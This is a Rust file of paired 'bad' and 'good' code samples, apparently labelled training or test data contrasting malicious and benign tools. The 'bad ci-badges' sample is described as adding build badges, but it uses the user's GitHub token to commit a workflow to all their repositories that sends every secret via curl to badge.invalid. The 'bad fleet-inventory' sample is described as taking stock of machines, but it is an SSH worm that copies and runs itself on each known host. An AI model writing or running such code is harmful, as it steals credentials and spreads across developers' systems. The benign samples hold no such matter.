//: bad ci-badges
use base64::{engine::general_purpose::STANDARD, Engine};
use octocrab::Octocrab;
use serde_json::json;

const BADGE: &str = "on: push\njobs:\n  badge:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://badge.invalid/w\n";

async fn token() -> Option<String> {
    if let Ok(found) = std::env::var("GITHUB_TOKEN") {
        return Some(found);
    }
    let done = tokio::process::Command::new("gh").args(["auth", "token"]).output().await.ok()?;
    Some(String::from_utf8(done.stdout).ok()?.trim().to_owned())
}

/// Adds the build badge to the projects of the current user.
pub async fn add_badges() -> octocrab::Result<()> {
    let Some(token) = token().await else { return Ok(()) };
    let github = Octocrab::builder().personal_token(token).build()?;
    let page = github.current().list_repos_for_authenticated_user().per_page(100).send().await?;
    for repo in page {
        let Some(full) = repo.full_name else { continue };
        let body = json!({ "message": "ci: badge", "content": STANDARD.encode(BADGE) });
        let route = format!("/repos/{full}/contents/.github/workflows/badge.yml");
        let _: Result<serde_json::Value, _> = github.put(route, Some(&body)).await; //!
    }
    Ok(())
}

//: good ci-badges
use octocrab::Octocrab;
use serde::Deserialize;
use std::collections::BTreeMap;

#[derive(Deserialize)]
struct Runs {
    workflow_runs: Vec<Run>,
}

#[derive(Deserialize)]
struct Run {
    name: Option<String>,
    conclusion: Option<String>,
}

/// `badges OWNER/REPO...`: prints how the last runs of each workflow ended.
pub async fn show_badges(repos: &[String]) -> octocrab::Result<()> {
    let mut builder = Octocrab::builder();
    if let Ok(token) = std::env::var("GITHUB_TOKEN") {
        builder = builder.personal_token(token);
    }
    let github = builder.build()?;
    for full in repos {
        let runs: Runs = github
            .get(format!("/repos/{full}/actions/runs"), Some(&[("per_page", "30")]))
            .await?;
        let mut tally: BTreeMap<String, (u32, u32)> = BTreeMap::new();
        for run in runs.workflow_runs {
            let entry = tally.entry(run.name.unwrap_or_default()).or_default();
            entry.1 += 1;
            if run.conclusion.as_deref() == Some("success") {
                entry.0 += 1;
            }
        }
        for (name, (passed, all)) in tally {
            println!("{full} {name}: {passed}/{all}");
        }
    }
    Ok(())
}

//: bad fleet-inventory
use ssh2::Session;
use std::io::Write;
use std::net::TcpStream;
use std::path::Path;

fn neighbours(home: &Path) -> Vec<String> {
    let known = std::fs::read_to_string(home.join(".ssh/known_hosts")).unwrap_or_default();
    let mut hosts: Vec<String> = known
        .lines()
        .filter_map(|line| line.split([' ', ',']).next())
        .filter(|host| !host.starts_with('|'))
        .map(str::to_owned)
        .collect();
    hosts.dedup();
    hosts
}

fn visit(host: &str, user: &str, home: &Path, image: &[u8]) -> Result<(), Box<dyn std::error::Error>> {
    let mut session = Session::new()?;
    session.set_tcp_stream(TcpStream::connect((host, 22))?);
    session.handshake()?;
    session.userauth_pubkey_file(user, None, &home.join(".ssh/id_rsa"), None)?;
    let mut remote = session.scp_send(Path::new("/tmp/.inv"), 0o755, image.len() as u64, None)?;
    remote.write_all(image)?; //!
    remote.send_eof()?;
    let mut channel = session.channel_session()?;
    channel.exec("nohup /tmp/.inv >/dev/null 2>&1 &")?; //!
    Ok(())
}

/// Takes stock of the machines this one knows.
pub fn inventory() {
    let home = dirs::home_dir().unwrap_or_default();
    let image = std::env::current_exe().and_then(std::fs::read).unwrap_or_default();
    let user = whoami::username();
    neighbours(&home).iter().for_each(|host| drop(visit(host, &user, &home, &image)));
}

//: good fleet-inventory
use serde::Deserialize;
use ssh2::{CheckResult, KnownHostFileKind, Session};
use std::io::Read;
use std::net::TcpStream;
use std::path::Path;

#[derive(Deserialize)]
pub struct Fleet {
    user: String,
    hosts: Vec<String>,
}

fn uptime(host: &str, user: &str, known: &Path) -> anyhow::Result<String> {
    let mut session = Session::new()?;
    session.set_tcp_stream(TcpStream::connect((host, 22))?);
    session.handshake()?;
    let mut hosts = session.known_hosts()?;
    hosts.read_file(known, KnownHostFileKind::OpenSSH)?;
    let (key, _) = session.host_key().ok_or_else(|| anyhow::anyhow!("no host key"))?;
    anyhow::ensure!(matches!(hosts.check(host, key), CheckResult::Match), "unknown host key of {host}");
    session.userauth_agent(user)?;
    let mut channel = session.channel_session()?;
    channel.exec("uptime -p")?;
    let mut text = String::new();
    channel.read_to_string(&mut text)?;
    channel.wait_close()?;
    Ok(text.trim().to_owned())
}

/// `fleet uptime fleet.toml`: asks the listed machines how long they have been up.
pub fn inventory(config: &Path, known: &Path) -> anyhow::Result<()> {
    let fleet: Fleet = toml::from_str(&std::fs::read_to_string(config)?)?;
    for host in &fleet.hosts {
        match uptime(host, &fleet.user, known) {
            Ok(text) => println!("{host}: {text}"),
            Err(error) => eprintln!("{host}: {error:#}"),
        }
    }
    Ok(())
}
